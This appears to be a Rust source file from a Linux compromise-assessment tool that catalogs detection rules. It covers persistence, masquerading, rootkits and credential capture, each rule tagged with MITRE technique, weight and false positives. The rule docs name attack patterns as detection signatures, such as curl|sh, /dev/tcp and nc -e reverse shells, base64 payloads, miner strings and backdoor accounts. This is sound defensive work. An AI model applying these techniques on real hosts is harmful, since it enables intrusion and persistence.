//! The built-in rules. Each documents what it catches, its MITRE ATT&CK technique and its
//! known false positives (shown by `dossier rules --long`). Weights and severities are defaults;
//! the playbook may change them.

//!
//! One file per family; [`CATALOG`] lists them all in report order. Rules read only the parsed
//! bundle ([`crate::context`]) and the playbook ([`crate::config`]); the engine runs them.

pub mod accounts;
pub mod common;
pub mod content;
pub mod cron;
pub mod exec;
pub mod hooks;
pub mod loader;
pub mod logins;
pub mod network;
pub mod paths;
pub mod process;
pub mod strings;
pub mod units;

use crate::config::AnalysisConfig;
use crate::context::Ctx;
use crate::input::BundleInput;
use accounts::*;
use cron::*;
use dossier_plugin_api::analysis::{Class, Finding, Severity};
use exec::*;
use hooks::*;
use loader::*;
use logins::*;
use network::*;
use paths::*;
use process::*;
use strings::*;
use units::*;

/// A rule as the engine runs it.
pub struct RuleInfo {
    pub id: &'static str,
    pub title: &'static str,
    pub mitre: &'static [&'static str],
    pub severity: Severity,
    pub weight: u32,
    /// Behaviour (what a thing does: scored) or context (provenance: shown, boosts behaviour
    /// on the same subject). A behaviour rule may still mark some findings as context: then
    /// `context_when` says when.
    pub class: Class,
    /// When a behaviour rule's findings are context instead.
    pub context_when: Option<&'static str>,
    /// Kinds of facts (`Finding::fact`, `fileless-exe`, `exe-location`) the rule reports and
    /// other rules may report too: one observation counts once, under the strongest rule.
    pub shares: &'static [&'static str],
    /// Collectors whose records the rule reads.
    pub needs: &'static [&'static str],
    /// Needs package ownership (a package database in the bundle).
    pub needs_packages: bool,
    /// Needs at least one record of each `(collector, kind)`: data a collector that ran may
    /// still lack (loaded modules exist only on live hosts).
    pub needs_kinds: &'static [(&'static str, &'static str)],
    /// What it catches and its false positives.
    pub doc: &'static str,
    pub run: fn(&Ctx, &AnalysisConfig, &mut BundleInput<'_>) -> Vec<Finding>,
}

impl RuleInfo {
    /// The other built-in rules that report facts of a kind this rule reports too (one
    /// observation counts once, under the strongest of them).
    pub fn shares_with(&self) -> Vec<&'static str> {
        CATALOG
            .iter()
            .filter(|r| r.id != self.id && r.shares.iter().any(|k| self.shares.contains(k)))
            .map(|r| r.id)
            .collect()
    }
}

/// Every built-in rule, in report order.
pub static CATALOG: &[RuleInfo] = &[
    RuleInfo {
        id: "exec-unusual-path",
        title: "Executable in an unusual path or disguised as a system name",
        mitre: &["T1036.005"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: None,
        shares: &["exe-location", "fileless-exe"],
        needs: &[],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A process, unit or cron entry runs a program from /tmp, /var/tmp, /dev/shm, /run, /var/log, /boot, /dev or a hidden directory (per-user toolchain directories such as ~/.local/bin, ~/.cargo/bin, ~/.nvm/versions are not hidden places), an executable held in memory only (/memfd:, fileless), or an unowned program with a system-looking name or in a system binary directory. Behaviour. Facts: `exe-location:PATH` (shared with cron-suspicious-path: a cron line and a unit running /var/log/log are one observation) and, for a process whose executable is memory-only or deleted, `fileless-exe:pid:N` (shared with deleted-exe-running and renamed-process-listening). FP: self-built tools deliberately run from /run or a dot-directory; vendor agents installed outside the package manager into /usr/bin.",
        run: exec_unusual_path,
    },
    RuleInfo {
        id: "unit-name-mismatch",
        title: "Unit name does not match the binary it runs",
        mitre: &["T1036.004"],
        severity: Severity::Medium,
        weight: 10,
        class: Class::Behaviour,
        context_when: Some(
            "the unit's name imitates nothing (heartbeat.service running /usr/bin/sleep, backup.service running restic)",
        ),
        shares: &[],
        needs: &["systemd"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A service unit that no package owns runs a program whose name shares nothing with the unit's, and the unit's name imitates something: a kernel thread or system daemon name, a systemd-/dbus-/udev-... prefix, or a program or unit a package installs on this host (python.service running /var/log/log). Behaviour then; a mismatch whose name imitates nothing is context (local services are named after their purpose). Interpreters are not judged. FP: a local unit deliberately named like a packaged program it wraps under another binary name.",
        run: unit_name_mismatch,
    },
    RuleInfo {
        id: "root-cron-reboot",
        title: "@reboot entry in root's crontab",
        mitre: &["T1053.003"],
        severity: Severity::High,
        weight: 20,
        class: Class::Behaviour,
        context_when: Some(
            "the command runs nothing bad (an @reboot NFS mount or a late service restart)",
        ),
        shares: &[],
        needs: &["cron"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A cron entry with the @reboot schedule runs as root. Behaviour when the command does something bad (download and execute, reverse shell, decoded payload) or runs a program from an unusual place or an unowned one with a system name or in a system binary directory: persistence pointing at something bad. Otherwise context. FP: a boot-time workaround script kept in /run or a dot-directory.",
        run: root_cron_reboot,
    },
    RuleInfo {
        id: "cron-suspicious-path",
        title: "System cron directories point at a suspicious path",
        mitre: &["T1053.003"],
        severity: Severity::Medium,
        weight: 10,
        class: Class::Behaviour,
        context_when: Some(
            "the only problem is that no package owns the program or script and the script's content is harmless",
        ),
        shares: &["exe-location"],
        needs: &["cron"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "/etc/crontab, /etc/cron.d or /etc/cron.{hourly,...} run a program from an unusual location (behaviour, fact `exe-location:PATH`: counted once with exec-unusual-path), or hold an unowned script whose content does something bad (download and execute, reverse shell, decoded payload, a program run from an unusual place: behaviour). A program or script no package owns whose content is harmless is context. FP: site scripts that download and run vendor installers from cron.",
        run: cron_suspicious_path,
    },
    RuleInfo {
        id: "exec-unowned",
        title: "Executable not owned by any installed package",
        mitre: &["T1105"],
        severity: Severity::Medium,
        weight: 15,
        class: Class::Context,
        context_when: None,
        shares: &[],
        needs: &["packages"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A program run by a process, unit or cron entry belongs to no installed package. Context: software built into /usr/local, installed from release tarballs or by agents is normal; it raises behaviour found on the same program. FP: none as a verdict (it never scores alone); as a signal: software installed from tarballs, containers' own binaries, language runtimes under /opt.",
        run: exec_unowned,
    },
    RuleInfo {
        id: "miner-strings",
        title: "Suspicious strings / miner keywords in an executable",
        mitre: &["T1496"],
        severity: Severity::High,
        weight: 10,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &[],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A copied executable contains keywords from the playbook (stratum+tcp://, xmrig, --donate-level, pool names), matched case-insensitively with Aho-Corasick. Only executables copied into the bundle are scanned. FP: security tools and miner-detection software that embed the same strings. Behaviour.",
        run: miner_strings,
    },
    RuleInfo {
        id: "unit-local-unowned",
        title: "Unit created locally in /etc/systemd/system and not owned by a package",
        mitre: &["T1543.002"],
        severity: Severity::Low,
        weight: 5,
        class: Class::Context,
        context_when: None,
        shares: &[],
        needs: &["systemd"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A unit file (not a link) in /etc/systemd/system that no package owns. Context: administrators and configuration management create units there every day; it raises behaviour found on the same unit. FP: units written by administrators or configuration management (it never scores alone).",
        run: unit_local_unowned,
    },
    RuleInfo {
        id: "deleted-exe-running",
        title: "Process running from a deleted executable",
        mitre: &["T1070.004"],
        severity: Severity::High,
        weight: 25,
        class: Class::Behaviour,
        context_when: Some(
            "a package owns the deleted path and the file there now verifies against the package (upgraded, not restarted)",
        ),
        shares: &["fileless-exe"],
        needs: &["proc"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A process's executable was deleted after it started (the copy read through /proc/PID/exe is in the bundle). Behaviour, fact `fileless-exe:pid:N` (shared with exec-unusual-path and renamed-process-listening: counted once, under the strongest). Context when a package owns the path and the file there now verifies (a daemon not restarted after an upgrade). FP: software updated outside the package manager and not restarted.",
        run: deleted_exe_running,
    },
    RuleInfo {
        id: "process-masquerade",
        title: "Process name masquerading (kernel-thread name or argv[0] unlike its executable)",
        mitre: &["T1036.004", "T1036.005"],
        severity: Severity::High,
        weight: 25,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["proc"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A user-space process calls itself like a kernel thread ([kworker/0:1], or a kernel thread's bare name such as kworker or ksoftirqd, while it has an executable) or its argv[0] names a different program than its executable. Login shells (-bash), interpreters and busybox applets, daemons that rewrite their title (\"sshd: user\", \"nginx: master process\", (sd-pam)), programs re-executed through /proc/self/exe, memfd executables (judged by deleted-exe-running and exec-unusual-path) and a packaged name for a packaged executable (mysqld -> mariadbd) are not judged. FP: programs that set argv[0] to a role name (some supervisors); setproctitle titles in brackets. Behaviour.",
        run: process_masquerade,
    },
    RuleInfo {
        id: "package-hash-mismatch",
        title: "Package binary differs from the package database",
        mitre: &["T1554"],
        severity: Severity::Critical,
        weight: 30,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["packages"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A file that a package owns, and that a process, unit or cron entry runs, hashes differently from the package's digest list. Configuration files under /etc are not judged. FP: binaries patched by hand or by prelink; a corrupted package database. Behaviour.",
        run: package_hash_mismatch,
    },
    RuleInfo {
        id: "inline-shell-download",
        title: "Inline shell or download-and-execute in a unit or cron command",
        mitre: &["T1059.004", "T1105"],
        severity: Severity::High,
        weight: 20,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &[],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A unit's Exec* line or a cron command does something bad by its content: downloads and executes (curl|sh, sh -c \"$(curl ...)\", fetch then chmod +x), opens a reverse or bind shell (/dev/tcp, nc -e, socat exec:, python/perl/php/ruby socket one-liners, mkfifo through netcat), or decodes an encoded payload and executes it (base64, hex, eval/exec). Behaviour. A bare `sh -c` is not judged. FP: vendor install one-liners run from a unit or cron (curl | sh of a known installer).",
        run: inline_shell_download,
    },
    RuleInfo {
        id: "aggressive-timer-unowned",
        title: "Aggressive timer on a unit no package owns",
        mitre: &["T1053.006"],
        severity: Severity::Medium,
        weight: 15,
        class: Class::Behaviour,
        context_when: Some("the unit it starts runs nothing bad"),
        shares: &[],
        needs: &["systemd"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A timer that no package owns fires every few minutes or less (OnUnitActiveSec/OnBootSec up to 5 min, minutely calendars). Behaviour when the unit it starts runs something bad (a dangerous command, a program in an unusual place, an unowned program with a system name): persistence pointing at something bad. Otherwise context. FP: frequent local jobs that run tools from /run or dot-directories.",
        run: aggressive_timer,
    },
    RuleInfo {
        id: "interpreter-listening",
        title: "Shell or interpreter listening on a socket",
        mitre: &["T1059"],
        severity: Severity::High,
        weight: 20,
        class: Class::Behaviour,
        context_when: Some(
            "an interpreter serves a script from a normal place (an in-house app server, a dev server)",
        ),
        shares: &[],
        needs: &["sockets"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A listening TCP/UDP socket belongs to a shell or netcat/socat (a bind shell), or to a script interpreter running a one-liner (-c, -e, -r), a script from an unusual or hidden place, or a deleted or memory-only interpreter: behaviour. An interpreter serving a script from a normal place (python web service under its own user, node dev server on 127.0.0.1) is context. FP: a developer's throw-away server started with python -c.",
        run: interpreter_listening,
    },
    RuleInfo {
        id: "renamed-process-listening",
        title: "Renamed or fileless process listening on a socket",
        mitre: &["T1036.004", "T1036.005", "T1571"],
        severity: Severity::High,
        weight: 20,
        class: Class::Behaviour,
        context_when: Some(
            "the listener's deleted executable is a packaged file replaced by an upgrade",
        ),
        shares: &["fileless-exe"],
        needs: &["sockets", "proc"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A listening TCP/UDP socket belongs to a process whose name does not fit its executable (decided as process-masquerade does: a kernel-thread name such as [kworker/0:1] or kworker with an executable, or an argv[0] naming another program), or whose executable was deleted or is a memfd (runs from memory only): a backdoor hiding behind a harmless name. Process titles (sshd: user@pts/0, nginx: master process, postgres: ...), (sd-pam), interpreters run under their versioned name, busybox applets and packaged symlinks are not judged. FP: daemons still listening after a package upgrade replaced their binary (the finding says when a package owns the deleted path); programs that set argv[0] to a role name. Behaviour; a memory-only or deleted listener reports the fact `fileless-exe:pid:N` (counted once with deleted-exe-running and exec-unusual-path). Context when the deleted executable is a packaged file replaced by an upgrade.",
        run: renamed_process_listening,
    },
    RuleInfo {
        id: "suspicious-port",
        title: "Listener on or connection to a known miner/backdoor port",
        mitre: &["T1571"],
        severity: Severity::Medium,
        weight: 15,
        class: Class::Behaviour,
        context_when: Some(
            "a process listens on one of the ports (many ordinary servers use 8888 or 9999)",
        ),
        shares: &[],
        needs: &["sockets"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A socket is connected to a remote port in the playbook's list (stratum pools 3333/4444/5555/7777/14444/45700, backdoors 1337/31337, IRC 6667): behaviour. A listener on one of those ports is context: it raises behaviour found on the same process or socket. FP: legitimate outbound services on those ports (an IRC client, a game server).",
        run: suspicious_port,
    },
    RuleInfo {
        id: "ld-preload-process",
        title: "LD_PRELOAD in a running process",
        mitre: &["T1574.006"],
        severity: Severity::Medium,
        weight: 20,
        class: Class::Behaviour,
        context_when: Some(
            "every preloaded library is owned by a package, in place and in a normal directory (libjemalloc, libfakeroot, libeatmydata)",
        ),
        shares: &[],
        needs: &["proc"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A process runs with LD_PRELOAD set and a preloaded library lives in an unusual place, is deleted, or belongs to no package (or ownership is unknown): library injection, userland rootkits. Behaviour. Packaged preloads (allocators, fakeroot, eatmydata) are context. FP: self-built profilers preloaded from /opt.",
        run: ld_preload,
    },
    RuleInfo {
        id: "account-extra-uid0",
        title: "Account other than root with uid 0",
        mitre: &["T1136.001", "T1078.003"],
        severity: Severity::Critical,
        weight: 40,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["accounts"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "/etc/passwd holds an account other than `root` with uid 0: it is root under another name, the classic backdoor account (often named like a service: `systemd-netd`, `sysadm`). Its password status (usable, locked...) is in the finding. FP: BSD-style `toor` accounts and recovery accounts some appliances ship; both are rare on Linux. Behaviour.",
        run: account_extra_uid0,
    },
    RuleInfo {
        id: "system-account-usable",
        title: "Service account (uid < 1000) made usable for login",
        mitre: &["T1078.003"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: Some(
            "the account looks locally created with a home of its own (/home/x, /var/lib/ansible), not a daemon identity",
        ),
        shares: &[],
        needs: &["accounts"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A non-root account with uid below 1000 has a login shell listed in /etc/shells together with a usable (or empty) password, or - when the ssh-keys plugin collected authorized keys - an authorized SSH key. Behaviour when the account is a daemon identity (uid below 100, a home such as /, /nonexistent, /usr/sbin, /bin, /dev/null, /run/..., /var/www, or it runs a listening service): an intruder's way in under a service's name. A locally created account with a real home (automation users) is context. FP: service accounts made interactive on purpose for maintenance.",
        run: system_account_usable,
    },
    RuleInfo {
        id: "sudo-nopasswd-all",
        title: "Password-less sudo to everything for a non-admin account",
        mitre: &["T1548.003"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: Some(
            "every grantee is an ordinary or automation account (ansible, deploy, a cloud default user)",
        ),
        shares: &[],
        needs: &["accounts"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A sudoers rule read by sudo grants NOPASSWD: ALL to a user who is not root and not a member of sudo/wheel/admin, or to a group other than those. Behaviour when a grantee is a daemon identity (uid below 100, a service home such as /var/www, /nonexistent, /usr/sbin, /run/..., or an account running a listening service) or a group of such accounts: a web server's www-data compromised is root. NOPASSWD ALL for an ordinary or automation account is context. FP: service accounts given passwordless root on purpose by a vendor's install script.",
        run: sudo_nopasswd_all,
    },
    RuleInfo {
        id: "boot-hook-unowned",
        title: "Boot or event hook not owned by a package, or modified",
        mitre: &["T1037.004", "T1037", "T1546.017"],
        severity: Severity::Medium,
        weight: 15,
        class: Class::Context,
        context_when: None,
        shares: &[],
        needs: &["hooks"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "An active init script (/etc/init.d, or an rc?.d entry that is not a link into it), /etc/rc.local, an update-motd.d script, an XDG autostart entry or a udev rule with RUN is not owned by any package, or differs from its package's digest (conffiles included). Inactive files (not executable, not sourced) are not judged. FP: rc.local and motd scripts written by administrators, configuration management, conffiles edited by hand (they show as modified). Context: a locally written hook is normal; its behaviour twin is hook-malicious-content, which judges what the hook does, and this rule raises it.",
        run: boot_hook_unowned,
    },
    RuleInfo {
        id: "login-hook-unowned",
        title: "System-wide shell profile not owned by a package, or modified",
        mitre: &["T1546.004"],
        severity: Severity::Medium,
        weight: 15,
        class: Class::Context,
        context_when: None,
        shares: &[],
        needs: &["hooks"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "/etc/profile, a sourced /etc/profile.d/*.sh or /etc/bash.bashrc is not owned by any package or differs from its package's digest: code that runs in every login shell, root's included. Users' own dotfiles belong to no package and are judged by content only (hook-malicious-content). FP: site profile.d scripts (proxy settings, PATH additions) and edited /etc/bash.bashrc. Context: proxy settings and banners in profile.d are normal; hook-malicious-content judges what the file does, and this rule raises it.",
        run: login_hook_unowned,
    },
    RuleInfo {
        id: "hook-malicious-content",
        title: "Boot, login, package-manager or auth hook downloads and executes, opens /dev/tcp, decodes base64 or backgrounds a shell",
        mitre: &["T1059.004", "T1546.004", "T1037"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["hooks"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A line (not a comment) of an active boot or login hook - init scripts, rc.local, profiles, users' .bashrc/.profile/..., motd scripts, autostart entries, udev rules - or of a package-manager or auth hook - apt configuration, yum/dnf plugin code, PAM service files, polkit rules - pipes curl/wget into a shell (or runs $(curl ...)), uses /dev/tcp or /dev/udp, decodes base64 into a shell/eval/exec, or starts a shell, netcat or a program from /tmp-like places in the background; or a command parsed out of apt or PAM syntax (an apt hook, a pam_exec command) does so or runs a program from /tmp, /dev/shm, /run, /var/log or a hidden directory. Files verified unchanged against their package are not read. FP: installer one-liners pasted into a user's .bashrc; udev rules of vendor tools that background helpers. Behaviour: the same content detectors as every rule reading commands or scripts.",
        run: hook_malicious_content,
    },
    RuleInfo {
        id: "generator-unowned",
        title: "Executable systemd generator not owned by a package",
        mitre: &["T1543", "T1543.002"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: Some("its script does nothing recognisably bad"),
        shares: &[],
        needs: &["systemd"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "An executable in a systemd generator directory (/etc, /run, /usr/local/lib, /usr/lib ...system-generators, user and environment generators too) belongs to no package. Generators run as root early at every boot and daemon-reload. Behaviour when its script does something bad (the hooks' content detectors), writes or links a unit kept outside systemd's unit directories, lives in an unusual place, or is named like systemd's own generators (systemd-*); otherwise context. FP: locally written generators named systemd-* by their authors.",
        run: generator_unowned,
    },
    RuleInfo {
        id: "pkg-manager-hook",
        title: "Package-manager hook or plugin not owned by a package, or modified",
        mitre: &["T1546.016"],
        severity: Severity::High,
        weight: 20,
        class: Class::Context,
        context_when: None,
        shares: &[],
        needs: &["hooks"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "An apt configuration file that apt reads (/etc/apt/apt.conf, /etc/apt/apt.conf.d/* named as apt accepts) sets DPkg::Pre-Invoke, DPkg::Post-Invoke, DPkg::Pre-Install-Pkgs, DPkg::Post-Invoke-Success or APT::Update::{Pre,Post}-Invoke[-Success] commands and is not owned by any package or differs from its package's digest; or the code of an enabled yum/dnf plugin (*.py in yum-plugins or dnf-plugins) is. Those commands run as root at every package operation or index update (T1546.016, installer packages). Hooks whose every command is housekeeping (rm, test, true, [ and :, as in the docker images' docker-clean) are not reported; enabled plugin configuration alone is not judged, only plugin code. FP: configuration management writing its own apt hooks (e.g. etckeeper-like snapshots, needrestart copies edited by hand), vendor plugins installed outside the package manager. Context: locally added apt hooks (cleanup, etckeeper-like snapshots) are normal; hook-malicious-content judges bad commands and this rule raises it.",
        run: pkg_manager_hook,
    },
    RuleInfo {
        id: "pam-exec-hook",
        title: "PAM runs a command through pam_exec",
        mitre: &["T1556.003"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: Some(
            "no expose_authtok and the command runs nothing bad from a normal place",
        ),
        shares: &[],
        needs: &["hooks"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A PAM service file that PAM reads (/etc/pam.d/*, or /etc/pam.conf when /etc/pam.d is absent) loads pam_exec.so with a command, and the file is not a package's unchanged copy. Behaviour with expose_authtok (the command receives every password typed: credential capture) or when the command does something bad or runs a program from an unusual place; otherwise context. FP: site login-notification scripts given expose_authtok by mistake.",
        run: pam_exec_hook,
    },
    RuleInfo {
        id: "pam-module-unowned",
        title: "PAM module not owned by a package, or modified",
        mitre: &["T1556.003"],
        severity: Severity::Critical,
        weight: 40,
        class: Class::Behaviour,
        context_when: Some("the module cannot grant a login on its own"),
        shares: &[],
        needs: &["hooks"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A module that an active PAM line loads (resolved against the PAM module directories, or given by absolute path) exists but no package owns it, or it differs from its package's digest. Behaviour when it can grant authentication on its own (`sufficient`, `[success=done ...]` or a `success=N` jump over pam_deny in an auth stack, or the first required/requisite of the auth stack, which sees every password first) or lives in an unusual place; otherwise context. FP: vendor MFA modules installed from tarballs as sufficient.",
        run: pam_module_unowned,
    },
    RuleInfo {
        id: "polkit-rule-unowned",
        title: "Polkit rule not owned by a package grants authorization without authentication",
        mitre: &["T1548"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["hooks"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A polkit JavaScript rule (/etc/polkit-1/rules.d, /usr/share/polkit-1/rules.d) or legacy .pkla file, not owned by a package or differing from its package's digest, returns polkit.Result.YES (ResultAny/ResultInactive/ResultActive=yes) for any subject or for a subject that is not an administrator (root, wheel, sudo, admin): that account can then start units, mount, reboot or run pkexec programs as root without a password, an abuse of an elevation-control mechanism (T1548; not T1484, which is about domain policy). Textual reading without a JavaScript engine: each YES is paired with the subject.user == and subject.isInGroup() conditions written between its addRule( and it (at most 4 KiB back), comments removed; conditions built in variables or helper functions are not followed, so such a rule shows as a grant to any subject. Rules that only return AUTH_ADMIN, or YES for administrators, are not reported. FP: site rules letting a monitoring or deployment account manage specific units without a password. Behaviour: a grant of YES to subjects that are not administrators.",
        run: polkit_rule_unowned,
    },
    RuleInfo {
        id: "ld-so-preload",
        title: "Library named in /etc/ld.so.preload",
        mitre: &["T1574.006"],
        severity: Severity::Critical,
        weight: 40,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["kernel"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "/etc/ld.so.preload names a library: the dynamic loader injects it into every dynamically linked program, which is how userland rootkits (Azazel, Jynx, libprocesshider) hide processes and files and steal credentials. Any name counts, whatever it is called. FP: a few monitoring or auditing tools (snoopy) and allocator tuning installed this way; they are rare on servers and worth confirming. Behaviour.",
        run: ld_so_preload,
    },
    RuleInfo {
        id: "ld-so-conf-unusual",
        title: "Loader search path includes an unusual directory",
        mitre: &["T1574.006"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["kernel"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "/etc/ld.so.conf or a file of /etc/ld.so.conf.d adds a library directory under /tmp, /var/tmp, /dev/shm, /run, /var/log or a hidden directory: libraries there shadow the system's for every program. FP: none known for those locations. Behaviour.",
        run: ld_so_conf_unusual,
    },
    RuleInfo {
        id: "kernel-module-hidden",
        title: "Kernel module hidden from /proc/modules",
        mitre: &["T1014"],
        severity: Severity::Critical,
        weight: 40,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["kernel"],
        needs_packages: false,
        needs_kinds: &[("kernel", "kernel_module")],
        doc: "A module has a /sys/module/<name> directory with an initstate (so it is a loaded module, not built-in code) but /proc/modules does not list it: kernel rootkits unlink themselves from the module list. Live hosts only. FP: a module loading or unloading at the instant of collection (initstate `coming`/`going`). Behaviour.",
        run: kernel_module_hidden,
    },
    RuleInfo {
        id: "kernel-module-unowned",
        title: "Loaded kernel module not provided by any package",
        mitre: &["T1547.006"],
        severity: Severity::High,
        weight: 20,
        class: Class::Context,
        context_when: None,
        shares: &[],
        needs: &["kernel"],
        needs_packages: true,
        needs_kinds: &[("kernel", "kernel_module")],
        doc: "A loaded module's file (from the running kernel's modules.dep) belongs to no installed package, or the module is loaded but modules.dep knows no file for it (inserted with insmod from elsewhere). Live hosts only. FP: DKMS-built modules (nvidia, zfs, virtualbox under updates/dkms), vendor drivers installed from tarballs. Context: DKMS and vendor drivers are built locally; it raises behaviour on the same module.",
        run: kernel_module_unowned,
    },
    RuleInfo {
        id: "modprobe-install-command",
        title: "modprobe configuration runs a suspicious command",
        mitre: &["T1547.006", "T1059.004"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["kernel"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "An `install` or `remove` directive in modprobe.d runs a command as root whenever the module is loaded or removed, and that command downloads and executes, uses /dev/tcp, decodes base64, backgrounds a shell, or runs a program from /tmp-like or hidden places. `/bin/true`/`/bin/false` blacklisting is ordinary. FP: vendor scripts in unusual places. Behaviour (the same command detectors as every rule reading commands; a /bin/true or /bin/false blacklist does nothing of the sort).",
        run: modprobe_install_command,
    },
    RuleInfo {
        id: "path-hijack",
        title: "Unowned script, or program named like a trusted tool, in /usr/local/{sbin,bin} shadowing a packaged one",
        mitre: &["T1574.007"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["local-bin"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A file in /usr/local/sbin or /usr/local/bin, which come first in PATH, has the name of a program a package installs in /usr/bin, /usr/sbin, /bin or /sbin, no package owns it (links to the packaged file are fine), and it is either a script (a wrapper that filters the real program's output or records what is typed) or takes the name of a program responders and administrators trust to see or to authenticate (ps, ls, netstat, ss, top, lsof, find, sudo, su, passwd, ssh, login, systemctl, crontab ...): every shell and script calling that name runs it instead. Unowned compiled programs with other names (a locally built git) are path-shadow-unowned. FP: administrators' wrapper scripts (a sudo wrapper that logs, a proxy-setting curl wrapper). Behaviour.",
        run: path_hijack,
    },
    RuleInfo {
        id: "path-shadow-unowned",
        title: "Locally installed program in /usr/local/{sbin,bin} shadowing a packaged one",
        mitre: &["T1574.007"],
        severity: Severity::Low,
        weight: 5,
        class: Class::Context,
        context_when: None,
        shares: &[],
        needs: &["local-bin"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "An unowned compiled program (not a script) in /usr/local/sbin or /usr/local/bin shadows a packaged program of the same name whose name is not one of those path-hijack watches: usually a newer version built from source (git, python3, vim, curl from `make install`). Listed so its origin can be checked against the build it claims to be; scored low. FP: that is the usual case. Context: newer versions built into /usr/local are normal.",
        run: path_shadow_unowned,
    },
    RuleInfo {
        id: "promiscuous-interface",
        title: "Network interface in promiscuous mode",
        mitre: &["T1040"],
        severity: Severity::Medium,
        weight: 15,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["netif"],
        needs_packages: false,
        needs_kinds: &[("netif", "net_interface")],
        doc: "An interface has the PROMISC flag: it receives every frame on the wire, as a sniffer capturing credentials needs. Ports of a bridge (set promiscuous by the bridge) are not judged. Live hosts only. FP: tcpdump or wireshark running at collection time, IDS sensors, hypervisor and container networking outside Linux bridges. Behaviour.",
        run: promiscuous_interface,
    },
    RuleInfo {
        id: "duplicate-mac",
        title: "Two physical adapters share a MAC address",
        mitre: &["T1557"],
        severity: Severity::Medium,
        weight: 10,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["netif"],
        needs_packages: false,
        needs_kinds: &[("netif", "net_interface")],
        doc: "Two physical adapters (not enslaved to a bond, team or bridge) report the same MAC address, or an adapter's MAC differs from its permanent address to equal another's: a spoofed address, used to impersonate a host on the segment. Live hosts only. FP: failover setups that copy MACs by hand, some virtual NIC drivers reporting a device. Behaviour.",
        run: duplicate_mac,
    },
    RuleInfo {
        id: "odd-login-user",
        title: "Session with an odd user name in utmp/wtmp",
        mitre: &["T1078"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["sessions"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A user session (USER_PROCESS) in utmp or wtmp names the user `LOGIN`, nobody, or a name with spaces, control or non-ASCII bytes: tools that forge or wipe login records leave such entries, and backdoors log in under names that do not look like users. getty's LOGIN_PROCESS entries named LOGIN are normal and not judged. FP: corrupted records after a crash. Behaviour.",
        run: odd_login_user,
    },
    RuleInfo {
        id: "failed-login-burst",
        title: "Burst of failed logins from one source (btmp)",
        mitre: &["T1110"],
        severity: Severity::Low,
        weight: 5,
        class: Class::Context,
        context_when: None,
        shares: &[],
        needs: &["sessions"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "btmp holds 20 or more failed logins from the same host within 10 minutes: password guessing. FP: every SSH server facing the internet sees this daily; it matters with bruteforce-then-login or on internal hosts. Context: it raises bruteforce-then-login from the same source.",
        run: failed_login_burst,
    },
    RuleInfo {
        id: "bruteforce-then-login",
        title: "Successful login from a source that had just brute-forced",
        mitre: &["T1110", "T1078"],
        severity: Severity::High,
        weight: 30,
        class: Class::Behaviour,
        context_when: None,
        shares: &[],
        needs: &["sessions"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A source with a burst of failed logins in btmp (see failed-login-burst) later has a successful session in wtmp or utmp: the guessing worked. FP: an administrator who mistyped a password many times from a script. Behaviour.",
        run: bruteforce_then_login,
    },
];
#[cfg(test)]
mod tests {
    use super::common::*;
    use super::content::*;
    use super::*;

    #[test]
    fn rc_links() {
        assert_eq!(
            rc_link_target("/etc/rc2.d/S01cron", "../init.d/cron"),
            "/etc/init.d/cron"
        );
        assert_eq!(rc_link_target("/etc/rc2.d/S01x", "/opt/x"), "/opt/x");
    }
